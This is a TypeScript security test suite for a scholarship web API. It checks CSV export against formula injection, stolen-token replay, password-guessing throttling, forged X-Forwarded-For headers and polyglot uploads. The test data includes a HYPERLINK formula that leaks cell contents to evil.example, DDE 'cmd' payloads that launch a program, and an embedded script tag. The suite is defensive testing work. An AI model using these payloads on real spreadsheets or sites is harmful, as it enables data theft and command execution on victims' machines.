/**
 * The attack corpus on the API: spreadsheet formulas planted in every exported text field, stolen
 * tokens replayed after logout, a password change or deactivation, and password guessing spread
 * over the written forms of one identifier or over forged client addresses (lockout.test.ts has the rest).
 * Polyglot uploads complete media.test.ts (oversize, magic bytes, SVG/HTML, traversal are there);
 * stored XSS in the browser is e2e/xss.spec.ts.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { bearer, jpeg, pdf, png, upload } from './media/media-test-helpers.js';
import { adminToken, client, instituteSession, loginToken, startTestApp, validRegistration, type TestApp } from '../test/test-app.js';

let t: TestApp;
let admin: ReturnType<typeof client>;
/** One admin session for the file: logins per account are limited. */
let adminKey: string;
beforeAll(async () => {
  t = await startTestApp();
  adminKey = await adminToken(t);
  admin = client(t, adminKey);
});
afterAll(async () => t.close());

/** Cells of an RFC 4180 CSV text (quoted cells may hold commas, quotes and line breaks). */
function csvCells(text: string): string[][] {
  const rows: string[][] = [[]];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i]!;
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (c === '"') quoted = false;
      else cell += c;
    } else if (c === '"') quoted = true;
    else if (c === ',') {
      rows.at(-1)!.push(cell);
      cell = '';
    } else if (c === '\n' || (c === '\r' && text[i + 1] === '\n')) {
      if (c === '\r') i++;
      rows.at(-1)!.push(cell);
      cell = '';
      rows.push([]);
    } else cell += c;
  }
  if (cell !== '' || rows.at(-1)!.length > 0) rows.at(-1)!.push(cell);
  return rows.filter((row) => row.length > 0);
}

const FORMULAS = [
  '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
  "+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
  '=1+1',
];
/**
 * What Excel, LibreOffice and Google Sheets take as the start of a formula; a tab before nothing but
 * digits is the export's own mark of an identifier kept as text (a mobile), which runs nothing.
 */
const RUNS_AS_FORMULA = /^(?!\t\d+$)[=+\-@\t\r]/;

describe('CSV formula injection', () => {
  it('every exported text field an attacker can fill comes out as text', async () => {
    const { token } = await instituteSession(t, 610);
    const institute = client(t, token);
    const { division_id, zilla_id, upozilla_id } = validRegistration(1);
    for (const [i, formula] of FORMULAS.entries()) {
      await admin.post('/api/v1/blog-categories/store', { title: formula });
      await admin.post('/api/v1/user-roles/store', { title: `${formula} ${i}` });
      await admin.post('/api/v1/web-page-menu/store', { title: formula, content_url: `/formula-${i}` });
      await admin.post('/api/v1/page-build/store', {
        title: formula,
        url: `formula-${i}`,
        published_at: '2026-11-22T10:30',
        meta_title: formula,
        meta_description: formula,
      });
      await admin.post('/api/v1/users/store', validRegistration(620 + i, { name: formula, contact_person: formula, post_office: formula }));
      const student = {
        class: '04',
        class_roll: String(i + 1),
        gender: 'm',
        department: 'p',
        name_bangla: formula,
        name_english: `x ${formula}`,
        father_name_english: formula,
        mother_name_english: formula,
        contact_number: '01911000000',
        post_office: formula,
        division_id,
        zilla_id,
        upozilla_id,
      };
      expect((await institute.post('/api/v1/scholarship-registrations/store', student)).status).toBeLessThan(500);
      // The user agent is the attacker's to choose and lands in the audit log's export.
      const row = (await admin.post('/api/v1/news-categories/store', { title: `ua ${i}` })).body.data as { id: number };
      await t.app.inject({
        method: 'POST',
        url: '/api/v1/news-categories/soft-delete',
        headers: { authorization: `Bearer ${adminKey}`, 'user-agent': formula },
        payload: { id: row.id },
      });
    }

    const models = ['blog-categories', 'user-roles', 'web-page-menu', 'page-build', 'users', 'scholarship-registrations', 'audit-logs'];
    for (const model of models) {
      const res = await admin.post('/api/v1/export-data', { model, export_title: model });
      expect(res.status, model).toBe(200);
      const cells = csvCells(res.raw.body.replace(/^\uFEFF/, '')).flat();
      const planted = cells.filter((cell) => FORMULAS.some((formula) => cell.includes(formula.trim().slice(1, 8))));
      expect(planted.length, `${model}: the planted values are in the export`).toBeGreaterThan(0);
      expect(
        cells.filter((cell) => RUNS_AS_FORMULA.test(cell)),
        `${model}: cells a spreadsheet would run`,
      ).toEqual([]);
    }
  });
});

describe('stolen tokens', () => {
  /** Calls of every kind a stolen token might be used for. */
  const attempts = (token: string) => {
    const api = client(t, token);
    return Promise.all([
      api.post('/api/auth/me'),
      api.get('/api/v1/profile'),
      api.get('/api/v1/scholarship-registrations'),
      api.get('/api/v1/scholarship-registrations/analytics'),
      api.post('/api/v1/scholarship-payments/store', {
        payment_method: 'bkash',
        amount: 200,
        transaction_id: `STOLEN${token.slice(0, 6)}`,
        date: '2026-01-10',
      }),
      api.post('/api/v1/export-data', { model: 'scholarship-registrations' }),
      api.post('/api/v1/profile/update-info', validRegistration(699)),
    ]).then((answers) => answers.map((a) => a.status));
  };
  const paymentCount = async () => (await t.app.db.selectFrom('scholarship_payments').select('id').execute()).length;

  it('a token is dead everywhere after logout', async () => {
    const { uid } = await instituteSession(t, 630);
    const token = await loginToken(t, uid, 'secret-pass-1');
    expect((await client(t, token).post('/api/auth/logout')).status).toBe(200);
    const before = await paymentCount();
    expect(new Set(await attempts(token))).toEqual(new Set([401]));
    expect(await paymentCount()).toBe(before);
  });

  it('other sessions die when the owner changes the password; the changing session lives', async () => {
    const { uid, token: changing } = await instituteSession(t, 631);
    const stolen = await loginToken(t, uid, 'secret-pass-1');
    const res = await client(t, changing).post('/api/v1/profile/update-password', {
      old_password: 'secret-pass-1',
      password: 'fresh-pass-2',
      password_confirmation: 'fresh-pass-2',
    });
    expect(res.status).toBe(200);
    expect(new Set(await attempts(stolen))).toEqual(new Set([401]));
    expect((await client(t, changing).post('/api/auth/me')).status).toBe(200);
  });

  it('every session dies when an admin sets a new password or deactivates the account', async () => {
    const { uid, id, token } = await instituteSession(t, 632);
    const { password: _p, password_confirmation: _c, ...fields } = validRegistration(632);
    expect((await admin.post('/api/v1/users/update', { id, ...fields, password: 'admin-set-3', password_confirmation: 'admin-set-3' })).status).toBe(200);
    expect(new Set(await attempts(token))).toEqual(new Set([401]));

    const again = await loginToken(t, uid, 'admin-set-3');
    expect((await admin.post('/api/v1/users/soft-delete', { id })).status).toBe(200);
    expect(new Set(await attempts(again))).toEqual(new Set([401]));
  });

  it('a token that was never issued, or is malformed, is a 401', async () => {
    for (const header of ['Bearer x', `Bearer ${'A'.repeat(43)}`, 'Bearer ', 'Basic YWRtaW46YWRtaW4=', `Bearer ${'\u0000'.repeat(4)}`]) {
      const res = await t.app.inject({ method: 'GET', url: '/api/v1/profile', headers: { authorization: header } });
      expect(res.statusCode, header).toBe(401);
    }
  });
});

describe('password guessing', () => {
  it('one identifier is throttled after 10 guesses whichever way it is written, and the owner’s browser still gets in', async () => {
    const t2 = await startTestApp();
    try {
      const account = validRegistration(640);
      await t2.app.inject({ method: 'POST', url: '/api/auth/register', payload: account });
      const mobile = String(account.phone_number);
      const owner = await t2.app.inject({ method: 'POST', url: '/api/auth/login', payload: { email: mobile, password: String(account.password) } });
      const cookie = /known_device=[\w-]+/.exec(String(owner.headers['set-cookie']))![0];
      const bengali = mobile.replace(/\d/g, (d) => String.fromCharCode(0x09e6 + Number(d)));
      const forms = [mobile, `+88${mobile}`, `+880${mobile.slice(1)}`, bengali, ` ${mobile} `];
      const statuses: number[] = [];
      // Each guess from a different address, so only the per-identifier limit can stop them.
      for (let i = 0; i < 11; i++) {
        const res = await t2.app.inject({
          method: 'POST',
          url: '/api/auth/login',
          remoteAddress: `198.51.100.${i + 1}`,
          payload: { email: forms[i % forms.length], password: `guess-${i}` },
        });
        statuses.push(res.statusCode);
      }
      expect(statuses.slice(0, 10)).toEqual(Array(10).fill(422));
      expect(statuses[10]).toBe(429);
      const asOwner = (headers: Record<string, string>) =>
        t2.app.inject({
          method: 'POST',
          url: '/api/auth/login',
          remoteAddress: '198.51.100.99',
          headers,
          payload: { email: mobile, password: String(account.password) },
        });
      // A new browser waits out the window; the browser the owner logged in from does not.
      expect((await asOwner({})).statusCode).toBe(429);
      expect((await asOwner({ cookie })).statusCode).toBe(200);
    } finally {
      await t2.close();
    }
  });

  it('a forged X-Forwarded-For does not reset the per-address limit without TRUST_PROXY', async () => {
    const t2 = await startTestApp();
    try {
      const statuses: number[] = [];
      for (let i = 0; i < 61; i++) {
        const res = await t2.app.inject({
          method: 'POST',
          url: '/api/auth/login',
          remoteAddress: '203.0.113.50',
          headers: { 'x-forwarded-for': `10.0.${i}.1` },
          payload: { email: `nobody${i}@example.test`, password: 'x' },
        });
        statuses.push(res.statusCode);
      }
      expect(statuses.slice(0, 60).includes(429)).toBe(false);
      expect(statuses[60]).toBe(429);
    } finally {
      await t2.close();
    }
  });

  it('behind a proxy (a hop count or its addresses), a forged X-Forwarded-For does not reset the per-address limit', async () => {
    // The proxy appends the address it saw; what the client wrote before it is not believed.
    for (const trust of ['1', '198.51.100.0/24']) {
      const t2 = await startTestApp({ TRUST_PROXY: trust });
      try {
        const statuses: number[] = [];
        for (let i = 0; i < 61; i++) {
          const res = await t2.app.inject({
            method: 'POST',
            url: '/api/auth/login',
            remoteAddress: '198.51.100.2',
            headers: { 'x-forwarded-for': `10.0.${i}.1, 203.0.113.50` },
            payload: { email: `nobody${i}@example.test`, password: 'x' },
          });
          statuses.push(res.statusCode);
        }
        expect(statuses.slice(0, 60).includes(429), trust).toBe(false);
        expect(statuses[60], trust).toBe(429);
      } finally {
        await t2.close();
      }
    }
  });

  it('a peer that is not a named proxy cannot name its address', async () => {
    const t2 = await startTestApp({ TRUST_PROXY: '198.51.100.0/24' });
    try {
      const token = await adminToken(t2);
      const row = (await client(t2, token).post('/api/v1/news-categories/store', { title: 'Direct' })).body.data as { id: number };
      await t2.app.inject({
        method: 'POST',
        url: '/api/v1/news-categories/soft-delete',
        remoteAddress: '203.0.113.9',
        headers: { authorization: `Bearer ${token}`, 'x-forwarded-for': '10.9.9.9' },
        payload: { id: row.id },
      });
      const entry = await t2.app.db.selectFrom('audit_logs').select(['action', 'ip']).orderBy('id', 'desc').executeTakeFirstOrThrow();
      expect(entry).toEqual({ action: 'record.soft_delete', ip: '203.0.113.9' });
    } finally {
      await t2.close();
    }
  });
});

describe('polyglot uploads', () => {
  const SCRIPT = '<html><body><script>window.__xss=1</script></body></html>';

  it('an image carrying HTML after its data is re-encoded without it and served as an image', async () => {
    const token = adminKey;
    for (const [image, name] of [
      [Buffer.concat([await png(20, 20), Buffer.from(SCRIPT)]), 'page.html'],
      [Buffer.concat([await jpeg(20, 20), Buffer.from(SCRIPT)]), 'photo.jpg'],
    ] as const) {
      const res = await upload(t.app, [{ name: 'photo', file: image, filename: name, type: 'text/html' }], bearer(token));
      expect(res.status, JSON.stringify(res.body)).toBe(200);
      const stored = res.body.data as string;
      expect(stored).toMatch(/\.(png|jpg)$/);
      const served = await t.app.inject({ method: 'GET', url: `/${stored}` });
      expect(served.headers['content-type']).toMatch(/^image\//);
      expect(served.headers['x-content-type-options']).toBe('nosniff');
      expect(served.rawPayload.includes('<script>')).toBe(false);
    }
  });

  it('a PDF that is also an HTML page is served as a PDF that no browser sniffs into a page', async () => {
    const res = await upload(
      t.app,
      [
        { name: 'accept', value: 'application/pdf' },
        { name: 'content_file', file: Buffer.concat([pdf(), Buffer.from(SCRIPT)]), filename: 'notice.html' },
      ],
      bearer(adminKey),
    );
    expect(res.status, JSON.stringify(res.body)).toBe(200);
    const stored = res.body.data as string;
    expect(stored).toMatch(/\.pdf$/);
    const served = await t.app.inject({ method: 'GET', url: `/${stored}`, headers: { accept: 'text/html' } });
    expect(served.headers['content-type']).toBe('application/pdf');
    expect(served.headers['x-content-type-options']).toBe('nosniff');
  });

  it('HTML that starts like an image is refused', async () => {
    const fake = Buffer.concat([Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]), Buffer.from(SCRIPT)]);
    const before = (await t.app.db.selectFrom('media').select('id').execute()).length;
    const res = await upload(t.app, [{ name: 'photo', file: fake, filename: 'x.png', type: 'image/png' }], bearer(adminKey));
    expect(res.status).toBe(422);
    expect((await t.app.db.selectFrom('media').select('id').execute()).length).toBe(before);
  });
});
